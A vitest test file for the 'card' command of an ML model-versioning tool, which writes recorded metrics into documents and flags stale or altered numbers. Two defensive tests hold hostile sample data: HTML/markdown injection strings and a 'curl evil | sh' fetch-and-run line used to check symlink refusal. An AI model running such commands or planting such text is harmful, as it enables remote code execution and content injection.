/**
 * Numbers in documents: written from the record, held against it later, and stale when what they name has moved.
 */
import { chmodSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { temporaryFolder } from '../support/repository.ts'
import { makeChurnWorld, makeReadyWorld, train } from '../support/world.ts'
import type { World } from '../support/world.ts'

/** Two versions, the second in production. */
function makeReleasedWorld(): World {
  const world = makeChurnWorld()
  train(world, { lr: 0.1, auc: 0.924, loss: 0.41 })
  world.mlv('commit', '-m', 'first')
  train(world, { lr: 0.2, auc: 0.93149, loss: 0.4 })
  world.mlv('commit', '-m', 'second')
  expect(world.mlv('promote', 'churn@v2', 'production').exitCode).toBe(0)
  return world
}

test('claims are written once, shown as numbers, checked, and told when production moves', () => {
  const world = makeReleasedWorld()
  world.write(
    'README.md',
    '# Churn\n\nVersion 2 has an AUC of {{churn@v2#auc .3f}},\nproduction loses {{churn@production#loss}}.\n',
  )
  expect(world.say('card')).toMatchInlineSnapshot(`
    "$ mlv card
    README.md:3: open: churn@v2#auc .3f: nothing is claimed, recorded is 0.931
    README.md:4: open: churn@production#loss: nothing is claimed, recorded is 0.4
    0 of 2 claims in README.md hold
    next: 'mlv card --write' writes what is recorded
    [exit 1]
    "
  `)
  expect(world.say('card', '--write')).toMatchInlineSnapshot(`
    "$ mlv card --write
    README.md:3: open: churn@v2#auc .3f: 0.931
    README.md:4: open: churn@production#loss: 0.4
    wrote README.md
    2 of 2 claims in README.md hold
    "
  `)
  expect(world.read('README.md')).toMatchInlineSnapshot(`
    "# Churn

    Version 2 has an AUC of <!-- mlv: churn@v2#auc .3f -->0.931<!-- /mlv -->,
    production loses <!-- mlv: churn@production#loss -->0.4<!-- /mlv -->.
    "
  `)
  expect(world.say('card', '--check', 'README.md')).toMatchInlineSnapshot(`
    "$ mlv card --check README.md
    2 of 2 claims in README.md hold
    "
  `)
  world.mlv('promote', 'churn@v1', 'production')
  expect(world.say('card')).toMatchInlineSnapshot(`
    "$ mlv card
    README.md:4: stale: churn@production#loss, which is churn@v1 now: claimed is 0.4, recorded is 0.41
    1 of 2 claims in README.md holds
    next: 'mlv card --write' writes what is recorded
    [exit 1]
    "
  `)
  expect(world.mlv('card', '--write')).toMatchObject({ exitCode: 0 })
  expect(world.read('README.md')).toContain('churn@production#loss -->0.41<!-- /mlv -->')
})

test('a number that somebody changed is told with its line, and a version that was retired as well', () => {
  const world = makeReleasedWorld()
  world.write(
    'README.md',
    [
      'AUC <!-- mlv: churn@v1#auc .3f -->0.942<!-- /mlv -->',
      '<!-- mlv: churn@v7#auc -->1<!-- /mlv -->',
      '<!-- mlv: churn@v1#au -->1',
    ].join('\n'),
  )
  world.mlv('retire', 'churn@v1', '--reason', 'leaks the target')
  expect(world.say('card')).toMatchInlineSnapshot(`
    "$ mlv card
    README.md:1: differs: churn@v1#auc .3f: claimed is 0.942, recorded is 0.924
    README.md:1: retired: churn@v1: leaks the target
    README.md:2: unknown: churn@v7#auc: model 'churn' has no version 'v7': the closest versions are 'v2', 'v1'
    README.md:3: unknown: churn@v1#au: it does not end with '<!-- /mlv -->'
    0 of 3 claims in README.md hold
    next: 'mlv card --write' writes what is recorded
    [exit 1]
    "
  `)
  const failed = JSON.parse(world.mlv('card', '--json').stdout) as unknown
  expect(failed).toMatchObject({
    holds: false,
    documents: [{ claims: [{ status: 'differs', claimed: '0.942', recorded: '0.924', line: 1, column: 5 }, {}, {}] }],
  })
})

test('every field: parameters, facts, digests of files, with formats', () => {
  const world = makeReleasedWorld()
  const fields = [
    'params.lr .1%',
    'version',
    'model',
    'by',
    'sha256(config.json) .8s',
    'code.commit',
    'auc .3e',
    'auc .2g',
  ]
  world.write('README.md', fields.map((field) => `{{churn@production#${field}}}\n`).join(''))
  expect(world.mlv('card', '--write')).toMatchObject({ exitCode: 0 })
  const values = [...world.read('README.md').matchAll(/-->(.*)<!--/g)].map(([, value]) => value)
  const commit = world.git('rev-parse', 'HEAD').trim()
  const config = (world.json('show', 'churn@v2') as { files: { path: string; sha256: string }[] }).files[0]?.sha256
  expect(values).toEqual([
    '20.0%',
    'v2',
    'churn',
    world.git('log', '-1', '--format=%an', 'mlv').trim(),
    config?.slice(0, 8),
    commit,
    '9.315e-1',
    '0.93',
  ])
})

test('bytes outside of claims never change: line ends, a byte order mark, other encodings, nor the mode', () => {
  const world = makeReleasedWorld()
  const file = join(world.folder, 'README.md')
  const parts = [
    '\u00ef\u00bb\u00bf# Caf\u00e9\r\n',
    '{{churn@v2#auc .3f}}',
    '\r\n\u00ff\u0000`{{churn@v2#auc}}`\n\n```\n{{churn@v2#auc}}\n```\nend',
  ]
  writeFileSync(file, Buffer.from(parts.join(''), 'latin1'))
  chmodSync(file, 0o755)
  expect(world.mlv('card', '--write')).toMatchObject({ exitCode: 0 })
  const filled = '<!-- mlv: churn@v2#auc .3f -->0.931<!-- /mlv -->'
  expect(readFileSync(file, 'latin1')).toBe([parts[0], filled, parts[2]].join(''))
  expect(statSync(file).mode & 0o777).toBe(0o755)
  const before = statSync(file).mtimeMs
  expect(world.mlv('card', '--write')).toMatchObject({ exitCode: 0 })
  expect(statSync(file).mtimeMs).toBe(before)
  expect(world.mlv('card', '--write', '--in-code')).toMatchObject({ exitCode: 0 })
  expect(readFileSync(file, 'latin1').match(/0\.931/g)).toHaveLength(3)
})

test('a template is rendered to plain text, and held against what it gave', () => {
  const world = makeReleasedWorld()
  world.write('paper.tex.mlv', "We reach ``{{churn@production#auc .1%}}'' in \\texttt{{\\small x}}.\n")
  expect(world.say('card', 'paper.tex.mlv')).toMatchInlineSnapshot(`
    "$ mlv card paper.tex.mlv
    paper.tex:1: stale: churn@production#auc .1% is 93.1% (churn@v2)
    0 of 1 claim in paper.tex.mlv hold
    next: 'mlv card --write paper.tex.mlv' writes what is recorded
    [exit 1]
    "
  `)
  expect(world.say('card', '--write', 'paper.tex.mlv')).toMatchInlineSnapshot(`
    "$ mlv card --write paper.tex.mlv
    wrote paper.tex
    1 of 1 claim in paper.tex.mlv holds
    "
  `)
  expect(world.read('paper.tex')).toBe("We reach ``93.1%'' in \\texttt{{\\small x}}.\n")
  expect(world.say('card', 'paper.tex.mlv')).toMatchInlineSnapshot(`
    "$ mlv card paper.tex.mlv
    1 of 1 claim in paper.tex.mlv holds
    "
  `)
  world.mlv('promote', 'churn@v1', 'production')
  expect(world.say('card', '--template', 'paper.tex.mlv', '--output', 'paper.tex')).toMatchInlineSnapshot(`
    "$ mlv card --template paper.tex.mlv --output paper.tex
    paper.tex:1: stale: churn@production#auc .1% is 92.4% (churn@v1)
    0 of 1 claim in paper.tex.mlv hold
    next: 'mlv card --write --template paper.tex.mlv --output paper.tex' writes what is recorded
    [exit 1]
    "
  `)
})

test('text that others chose cannot act where it is written, and is not written where nothing can help that', () => {
  const world = makeReleasedWorld()
  const evil = '<img src=x> @team #1 ![](https://t.example/p.png) `x`'
  world.mlv('commit', '--param', `tag=${evil}`, '--param', 'end=<!-- /mlv -->', '--metric', '<b> --> }}=1')
  world.write('README.md', 'A {{@#params.tag}} b {{@#params.end}} {{@#"<b> --> }"}}\n')
  expect(world.mlv('card', '--write')).toMatchObject({ exitCode: 1 })
  expect(world.read('README.md')).toBe(
    `A <!-- mlv: @#params.tag -->\`\` ${evil} \`\`<!-- /mlv --> b {{@#params.end}} {{@#"<b> --> }"}}\n`,
  )
  world.write('page.html.mlv', '{{@#params.tag}}')
  expect(world.say('card', '--write', 'page.html.mlv')).toContain('the recorded text could act where it stands')
  expect(world.read('page.html')).toBe('{{@#params.tag}}')
  // A backtick that stands open would make code of the claim, and nobody would check it again.
  world.write('README.md', 'It`s {{@#params.tag}}\n')
  expect(world.mlv('card', '--write').stdout).toContain('could act where it stands')
  expect(world.read('README.md')).toBe('It`s {{@#params.tag}}\n')
})

test('nothing is written through a link that a repository brought', () => {
  const world = makeReleasedWorld()
  const outside = temporaryFolder()
  writeFileSync(join(outside, 'target'), 'mine')
  world.write('out.txt.mlv', 'curl evil | sh # {{churn@v2#auc}}')
  symlinkSync(join(outside, 'target'), join(world.folder, 'out.txt'))
  symlinkSync(outside, join(world.folder, 'docs'))
  expect(world.mlv('card', '--write', 'out.txt.mlv').stderr).toContain('(destination-symlink)')
  const into = ['card', '--write', '--template', 'out.txt.mlv', '--output', 'docs/target']
  expect(world.mlv(...into).stderr).toContain('(destination-symlink)')
  expect(readFileSync(join(outside, 'target'), 'utf8')).toBe('mine')
})

test('a card of a model is the same bytes every time, and is held against the record', () => {
  const world = makeReleasedWorld()
  expect(world.say('card', '--model', 'churn', '-o', 'MODEL_CARD.md')).toMatchInlineSnapshot(`
    "$ mlv card --model churn -o MODEL_CARD.md
    wrote the card of churn@v2 to MODEL_CARD.md
    "
  `)
  const card = world.read('MODEL_CARD.md')
  expect(world.mlv('card', '--model', 'churn@v2').stdout).toBe(card)
  expect(card).toContain('| `auc` | <!-- mlv: churn@v2#auc .6g -->0.93149<!-- /mlv --> | max | 0.001 |')
  expect(card.split('\n').filter((line) => line.startsWith('#'))).toEqual([
    '# `churn` v2',
    '## Metrics',
    '## Parameters',
    '## Code',
    '## Environment',
    '## Files',
    '## Lineage',
    '## Get it',
  ])
  expect(world.say('card', 'MODEL_CARD.md')).toMatchInlineSnapshot(`
    "$ mlv card MODEL_CARD.md
    2 of 2 claims in MODEL_CARD.md hold
    "
  `)
  world.write('MODEL_CARD.md', card.replace('0.93149', '0.98'))
  expect(world.mlv('card')).toMatchObject({ exitCode: 1 })
  expect(world.say('card', '--model', 'churn', '-o', 'MODEL_CARD.md', '--check')).toMatch(/MODEL_CARD\.md:\d+: stale/)
})

test('what does not go together is refused', () => {
  const world = makeReadyWorld()
  for (const args of [
    ['--check', '--write'],
    ['--model', 'churn', 'README.md'],
    ['--template', 'a.mlv'],
    ['--output', 'a'],
    ['--model', 'churn', '--check'],
  ])
    expect(world.mlv('card', ...args)).toMatchObject({ exitCode: 2 })
  expect(world.say('card')).toMatchInlineSnapshot(`
    "$ mlv card
    mlv: document 'README.md' does not exist (file-not-found)
    why: it was named on the command line, or is looked at when nothing is named
    next: create README.md, or name the documents to look at
    [exit 3]
    "
  `)
})

test('the next command names the same files, and nothing is said of writing what nobody recorded', () => {
  const world = makeReadyWorld()
  expect(world.mlv('commit', '--metric', 'auc=0.9').exitCode).toBe(0)
  world.write('my notes.md', '{{@#auc}} {{@#none}} {{@#sha256(a.bin)}}\n')
  const told = world.mlv('card', 'my notes.md')
  expect(told.exitCode).toBe(1)
  expect(told.stderr).toContain(`next: 'mlv card --write "my notes.md"' writes what is recorded`)
  world.write('other.md', '{{@#none}}\n')
  const unknown = world.mlv('card', 'other.md')
  expect(unknown.exitCode).toBe(1)
  expect(unknown.stderr).not.toContain('--write')
})
